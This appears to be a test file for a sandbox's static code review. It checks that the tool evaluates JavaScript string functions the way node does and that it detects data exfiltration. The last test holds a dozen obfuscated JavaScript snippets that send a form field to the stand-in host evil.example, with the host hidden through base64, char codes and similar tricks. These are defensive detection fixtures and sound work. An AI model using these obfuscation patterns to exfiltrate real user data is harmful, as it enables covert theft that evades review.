"""The string functions the static review folds (``sandbox/review/jsstrings.py``) against node's:
wherever the review computes a value, it is the value JavaScript computes."""

from __future__ import annotations

import base64
import json
import math
import random
import shutil
import subprocess

import pytest

from flowui_sandbox.sandbox.review import jsstrings, review_static

pytestmark = pytest.mark.unit

#: Characters the random texts are made of: ASCII, the case-changing specials, spaces trim sees,
#: percent escapes' parts, a character outside the BMP.
POOL = list("aZ09.-_/:%uU+= \t") + ["\u00a0", "\ufeff", "ß", "İ", "é", "Σ", "\U0001F600", "%41", "%u00e9", "%C3%A9", "%E2%82%AC",
                                    "%zz", "%C3", "$&", "$1"]
NUMBERS = [float(n) for n in (0, 1, 2, 3, -1, -2, 0.5, -0.5, 7.9, 100, 65, 119, 0x1F600, 0xD83D, 0xDE00, 65536 + 65,
                               1e21, float("inf"), float("-inf"), float("nan"))]


def _text(rng: random.Random) -> str:
    return "".join(rng.choice(POOL) for _ in range(rng.randint(0, 8)))


def _cases(rng: random.Random) -> list[tuple[str, str, list]]:
    """(function or method, receiver or "", arguments)."""
    cases: list[tuple[str, str, list]] = []
    for _ in range(300):
        data = bytes(rng.randrange(256) for _ in range(rng.randint(0, 12)))
        encoded = base64.b64encode(data).decode()
        cut = encoded.rstrip("=") if rng.random() < 0.3 else encoded
        noisy = "".join(c + (" " if rng.random() < 0.1 else "") for c in cut) + rng.choice(["", "", "=", "!", "A"])
        cases.append(("atob", "", [noisy]))
        cases.append((rng.choice(["decodeURIComponent", "decodeURI", "unescape"]), "", [_text(rng)]))
        cases.append((rng.choice(["String.fromCharCode", "String.fromCodePoint"]), "",
                      [rng.choice(NUMBERS) for _ in range(rng.randint(0, 4))]))
    for _ in range(1500):
        name = rng.choice(sorted(jsstrings.TEXT_METHODS))
        if name in ("replace", "replaceAll"):
            receiver = _text(rng)
            old = rng.choice([receiver[:2], receiver[1:3], "", "a", "%"]) if receiver else rng.choice(["", "a"])
            args: list = [old, rng.choice(["", "x", ".", "$&", "yy"])]
        elif name == "normalize":
            receiver = _text(rng) + rng.choice(["", "e\u0301", "\ufb01", "\u1e9b\u0323"])
            args = rng.choice([[], ["NFC"], ["NFD"], ["NFKC"], ["NFKD"], ["nfc"]])
        elif name.startswith("toLocale"):
            receiver = _text(rng) + rng.choice(["", "I", "i", "WEB"])
            args = rng.choice([[], ["tr"], ["en-US"], ["lt"]])
        else:
            receiver = _text(rng)
            args = [rng.choice(NUMBERS) for _ in range(rng.randint(0, 2))]
        cases.append((name, receiver, args))
    return cases


def test_each_function_gives_what_node_gives():
    node = shutil.which("node")
    assert node, "node is needed (make setup installs it)"
    cases = _cases(random.Random(20261205))
    # NaN and the infinities do not survive JSON: sent as {"n": "inf"}, turned back into numbers in node.
    script = (
        "const number = (x) => x && x.n !== undefined ? Number(x.n.replace('inf', 'Infinity')) : x;"
        "const cases = JSON.parse(require('fs').readFileSync(0, 'utf8')).map(([f, r, a]) => [f, r, a.map(number)]);"
        "const call = ([f, r, a]) => f === 'String.fromCharCode' ? String.fromCharCode(...a)"
        "  : f === 'String.fromCodePoint' ? String.fromCodePoint(...a) : f in globalThis ? globalThis[f](...a) : r[f](...a);"
        "process.stdout.write(JSON.stringify(cases.map((c) => {"
        "  try { const v = call(c); return typeof v === 'string' ? [v] : null; } catch (e) { return null; } })));"
    )
    wire = [(f, r, [{"n": str(a)} if isinstance(a, float) and not math.isfinite(a) else a for a in args]) for f, r, args in cases]
    done = subprocess.run([node, "-e", script], input=json.dumps(wire), capture_output=True, text=True, timeout=60, check=True)
    strings = computed = 0
    missed: dict[str, int] = {}
    for (function, receiver, args), expected in zip(cases, json.loads(done.stdout)):
        ours = jsstrings.decode(function, args) if function in jsstrings.DECODERS else jsstrings.method(receiver, function, args)
        strings += expected is not None
        if ours is None:  # unknown to the review: never wrong
            missed[function] = missed.get(function, 0) + (expected is not None)
            continue
        computed += 1
        assert expected is not None and ours == expected[0], (function, receiver, args, ours, expected)
    assert computed > strings * 0.7, missed  # most are followed, not given up


def test_numbers_spelled_in_a_radix_and_bytes_decoded_as_utf8_give_what_node_gives():
    node = shutil.which("node")
    assert node, "node is needed (make setup installs it)"
    rng = random.Random(20261205)
    numbers = [(float(rng.choice([rng.randrange(0, 2 ** 40), -rng.randrange(0, 10 ** 6), 0, 2 ** 53 - 1, 35])),
                float(rng.choice([2, 8, 10, 16, 36, rng.randrange(2, 37)]))) for _ in range(500)]
    blobs = [[float(rng.choice([rng.randrange(0, 128), rng.randrange(128, 256), 0xEF, 0xBB, 0xBF, 0xE2, 0x82, 0xAC, 300, -1]))
              for _ in range(rng.randrange(0, 10))] for _ in range(500)]
    script = (
        "const [numbers, blobs] = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
        "process.stdout.write(JSON.stringify([numbers.map(([n, r]) => n.toString(r)),"
        "  blobs.map((b) => new TextDecoder().decode(new Uint8Array(b)))]));"
    )
    done = subprocess.run([node, "-e", script], input=json.dumps([numbers, blobs]), capture_output=True, text=True, timeout=60, check=True)
    spelled, decoded = json.loads(done.stdout)
    assert [jsstrings.number_to_string(n, r) for n, r in numbers] == spelled
    assert [jsstrings.utf8_decode(b) for b in blobs] == decoded


@pytest.mark.parametrize(("script", "host"), [
    ("new Image().src = 'https://' + (694029).toString(36) + '.example/?' + flowUi.get('a');", "evil.example"),
    ("const b = Uint8Array.of(101, 118, 105, 108); new Image().src = `https://${new TextDecoder().decode(b)}.example/?` + flowUi.get('a');",
     "evil.example"),
    ("new Image().src = 'https://' + new TextDecoder('utf-8').decode(new Uint8Array([101, 118, 105, 108])) + '.example/?' + flowUi.get('a');",
     "evil.example"),
    (f"new Image().src = atob('{base64.b64encode(b'https://evil.example/p?').decode()}') + flowUi.get('a');", "evil.example"),
    ("new Image().src = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47) + 'evil.example/p?' + flowUi.get('a');",
     "evil.example"),
    ("new Image().src = String.fromCharCode(...[104, 116, 116, 112, 115, 58, 47, 47]) + 'evil.example/?' + flowUi.get('a');",
     "evil.example"),
    ("new Image().src = decodeURIComponent('https%3A%2F%2Fevil.example%2Fp%3F') + flowUi.get('a');", "evil.example"),
    ("new Image().src = 'https://EVIL.example.invalid'.replace('.invalid', '').toLowerCase() + '/p?' + flowUi.get('a');",
     "evil.example"),
    ("const h = 'xxevil.example'.slice(2); new Image().src = `https://${h}/p?` + flowUi.get('a');", "evil.example"),
    ("new Image().src = String.fromCharCode.apply(null, [104, 116, 116, 112, 115, 58, 47, 47]) + 'evil.example/?' + flowUi.get('a');",
     "evil.example"),
    ("new Image().src = atob.call(null, 'aHR0cHM6Ly9ldmlsLmV4YW1wbGUvPw==') + flowUi.get('a');", "evil.example"),
    # An array's slice is an array: its text is its elements', not the slice of its joined text.
    ("const p = ['https://evil.example/?', 'https://b.example/?']; new Image().src = p.slice(0, 1) + flowUi.get('a');",
     "evil.example"),
])
def test_a_host_decoded_or_cut_out_of_a_literal_is_named(script, host):
    found = review_static(f"<p>x</p><script>{script}</script>", file="b.html", fields=["a"])
    flows = [f for f in found if f.rule == "exfil.state-to-url"]
    assert flows and host in flows[0].hosts, [(f.rule, f.message) for f in found]
